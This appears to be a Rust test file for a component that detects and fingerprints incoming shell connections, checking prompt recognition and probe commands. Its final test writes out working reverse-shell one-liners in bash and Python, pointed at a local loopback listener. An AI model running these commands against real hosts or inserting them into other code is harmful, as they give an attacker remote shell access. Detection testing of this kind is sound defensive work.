use super::parse::{identity, line, prompt};
use crate::testing::{Bed, Loopback, present, world};

fn check(bytes: &str, expect: bool) {
    assert_eq!(prompt(bytes.as_bytes()), expect, "{bytes:?}");
}

#[test]
fn prompts_are_known() {
    check("$ ", true);
    check("# ", true);
    check("/ # ", true);
    check("root@web-1:/# ", true);
    check("sh-5.2$ ", true);
    check("bash: cannot set terminal process group (1): Inappropriate ioctl for device\n", true);
    check("/bin/sh: can't access tty; job control turned off\n", true);
    check("GET / HTTP/1.1\r\n", false);
    check("", false);
    check("costs 5 $", false);
    check("hello\n", false);
}

#[test]
fn identities_are_whole_lines() {
    assert_eq!(identity(b"id\nuid=0(root) gid=0(root)\n# "), Some(&b"uid=0(root) gid=0(root)"[..]));
    assert_eq!(identity(b"uid=0(root) gid=0"), None);
    assert_eq!(identity(b"uid=x gid=0\n"), None);
    assert_eq!(identity(b"<html>uid=</html>\n"), None);
    assert_eq!(line(b"uname -a\nLinux web\n$ ", b"uname -a"), Some(&b"Linux web"[..]));
}

#[test]
fn a_silent_shell_is_asked_who_it_is() {
    let bed = Bed::new();
    bed.says(
        "198.51.100.7:4444",
        &[
            (b"", "id\n"),
            (b"uid=0(root) gid=0(root) groups=0(root)\n", "uname -a\n"),
            (b"Linux web 6.1\n", "pwd\n"),
            (b"/root\n", "exit"),
        ],
    );
    bed.check("shell: id: uid=0(root) gid=0(root) groups=0(root)");
    bed.check("shell: uname: Linux web 6.1");
    bed.check("shell: pwd: /root");
}

#[test]
fn a_program_that_is_no_shell_is_not_one() {
    let bed = Bed::new();
    // It waits for a word, and says something of its own to our first one.
    bed.says("198.51.100.7:4444", &[(b"", "id\n"), (b"ERR unknown command\n", "")]);
    assert!(!bed.told().iter().any(|line| line.starts_with("shell: id")), "{:?}", bed.told());
    // A client that takes its time is answered in its own protocol.
    let bed = Bed::new();
    bed.says("198.51.100.7:4444", &[(b"", "id\n"), (b"GET / HTTP/1.1\r\nHost: x.example\r\n\r\n", "200 OK")]);
    bed.check("http GET x.example / 200");
}

#[test]
fn real_shells_are_caught() {
    for (shell, command) in [
        ("bash", "exec bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"),
        ("bash", "exec 3<>/dev/tcp/127.0.0.1/PORT; exec sh <&3 >&3 2>&3"),
        (
            "python3",
            "import socket,os,subprocess\ns=socket.create_connection(('127.0.0.1',PORT))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\nsubprocess.call(['/bin/sh','-i'])",
        ),
    ] {
        if !present(shell) {
            continue;
        }
        let loopback = Loopback::new(world());
        let command = command.replace("PORT", &loopback.tcp.port().to_string());
        crate::testing::run(shell, &["-c", &command]);
        loopback.check("shell: id: uid=");
    }
}
